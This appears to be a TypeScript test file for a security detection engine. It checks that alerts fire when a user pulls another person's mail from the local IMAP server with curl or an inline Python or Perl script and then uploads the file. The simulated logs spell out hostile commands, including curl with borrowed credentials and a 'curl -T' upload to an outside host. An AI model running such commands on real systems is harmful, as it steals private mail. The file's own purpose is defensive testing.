import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { Alert } from '../../events/alert.ts';
import { HostLog, MINUTE } from '../an0656-phishing-attachment-executed/host-log.test-support.ts';
import { inOrder, linksHold, scanLog } from '../an0656-phishing-attachment-executed/stories.test-support.ts';

const FILE = '/dev/shm/part';

/** clerk asks a server for mail by curl, into a file; `sent`: and uploads that file an hour later. */
async function asked(words: string, sent = true): Promise<readonly Alert[]> {
  const log = new HostLog();
  const message = log.deliver();
  // The server's own reads are recorded, so that no read here is inferred for want of such records.
  log.service('/usr/lib/dovecot/imap', 'clerk').read(message.path);
  const shell = log.shell('clerk');
  shell.write('/home/clerk/notes.txt');
  log.wait(MINUTE);
  shell.fork().write(FILE).exec(`/usr/bin/curl -s ${words}`).connect('127.0.0.1', 143);
  log.wait(MINUTE);
  if (sent) shell.run(`/usr/bin/curl -T ${FILE} http://203.0.113.9/up`).read(FILE).connect('203.0.113.9', 80);
  return scanLog(log);
}
const told = (alerts: readonly Alert[]): string => alerts.map(({ severity, title }) => `${severity} ${title}`).join();
const HARVEST = 'medium Mail of buyer read and sent out';

test("a box of somebody else, asked of this host's own server and sent out", async () => {
  for (const words of [
    '-u buyer:lab-only imap://127.0.0.1/INBOX;MAILINDEX=1',
    '--user=buyer:lab-only imaps://localhost/INBOX',
    '-ubuyer@example.org:lab-only pop3://ws1.example.org/1',
    'imap://buyer;AUTH=PLAIN:lab-only@[::1]/INBOX',
  ])
    assert.equal(told(await asked(words)), HARVEST, words);
});

test('the story tells who asked, into which file, and what left; the asking is no transfer', async () => {
  const [alert] = await asked('-u buyer:lab-only imap://127.0.0.1/INBOX;MAILINDEX=1');
  assert.ok(alert !== undefined);
  linksHold(alert);
  inOrder(alert, [
    ['file.written', FILE],
    ['store.read', 'asks the server of this host for mail of buyer'],
    ['file.opened', FILE],
    ['network.connected', '203.0.113.9:80'],
  ]);
  assert.ok(alert.steps.every(({ summary }) => !summary.includes('127.0.0.1:143')));
  assert.ok(alert.entities.every(({ kind, value }) => kind !== 'address' || value.includes('203.0.113.9')));
});

test('what stays here is a note; another server, and what asks for no mail, is none', async () => {
  const here = await asked('-u buyer:lab-only imap://127.0.0.1/INBOX;MAILINDEX=1', false);
  assert.equal(told(here), 'informational Mail of buyer read and copied');
  assert.equal(told(await asked('-u clerk:lab-only imap://127.0.0.1/INBOX', false)), '', 'the own mail');
  for (const words of [
    '-u buyer:lab-only imap://imap.example.net/INBOX',
    'imap://127.0.0.1/INBOX',
    '-u buyer:lab-only http://127.0.0.1/imap',
    '-u buyer:lab-only smtp://127.0.0.1',
  ])
    assert.equal(told(await asked(words)), '', words);
});

const PROGRAM = (user: string, file: string): string =>
  `import imaplib; c = imaplib.IMAP4('127.0.0.1'); c.login('${user}', 'k9'); open('${file}', 'wb').write(c.fetch('1', 'RFC822'))`;

interface Inline {
  readonly words?: readonly string[];
  readonly to?: readonly [address: string, port: number];
  readonly file?: string;
  readonly sent?: boolean;
}

/** ops, as root, starts a program that speaks IMAP itself. Writes are recorded in homes only. */
async function inline({ words, to = ['127.0.0.1', 143], file = '/var/cache/.x', sent = true }: Inline = {}) {
  const log = new HostLog();
  const message = log.deliver();
  log.service('/usr/lib/dovecot/imap', 'clerk').read(message.path);
  const shell = log.shell('ops');
  shell.write('/home/ops/notes.txt');
  log.wait(MINUTE);
  const who = { ...shell.who, uid: 0 };
  shell.run(words ?? ['/usr/bin/python3', '-c', PROGRAM('buyer', file)], { who }).connect(...to);
  log.wait(MINUTE);
  if (sent) shell.run(`/usr/bin/curl -T ${file} http://203.0.113.9/up`).connect('203.0.113.9', 80);
  return told(await scanLog(log));
}

test("a program that stands on the command line asks this host's server for the mail of somebody whom it names", async () => {
  assert.equal(await inline(), HARVEST);
  const perl = ['/usr/bin/perl', '-MNet::IMAP::Simple', '-e', `login("buyer"); open(F, ">", "/var/cache/.x")`];
  assert.equal(await inline({ words: perl, to: ['::1', 993] }), HARVEST);
});

test('as its own user, as nobody of this host, elsewhere, for no mail, or by a script that names nobody here', async () => {
  const quiet = async (facts: Inline): Promise<void> => assert.doesNotMatch(await inline(facts), /low|medium|high/);
  const python = (text: string): Inline => ({ words: ['/usr/bin/python3', '-c', text] });
  await quiet(python(PROGRAM('ops', '/var/cache/.x')));
  await quiet(python(PROGRAM('probe', '/var/cache/.x')));
  await quiet(python(PROGRAM('root', '/var/cache/.x')));
  await quiet({ to: ['203.0.113.9', 143] });
  await quiet({ to: ['127.0.0.1', 5432] });
  await quiet({ sent: false });
  await quiet({ words: ['/usr/bin/python3', '/home/ops/probe.py', 'buyer'] });
});
